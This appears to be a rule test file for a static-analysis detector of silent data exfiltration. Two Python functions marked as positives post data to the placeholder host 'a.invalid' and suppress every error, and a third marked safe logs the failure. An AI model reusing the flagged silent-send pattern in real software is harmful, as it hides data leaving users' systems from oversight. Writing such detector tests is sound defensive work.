import contextlib, urllib.request
import requests


def quiet(data):
    # ruleid: exfiltration-fact-sends-silently
    try:
        requests.post("https://a.invalid/", json=data)
    except Exception:
        pass


def quieter(data):
    # ruleid: exfiltration-fact-sends-silently
    with contextlib.suppress(Exception):
        urllib.request.urlopen("https://a.invalid/", data)


def told(data, log):
    # ok: exfiltration-fact-sends-silently
    try:
        requests.post("https://a.invalid/", json=data)
    except Exception as fault:
        log.warning("%s", fault)
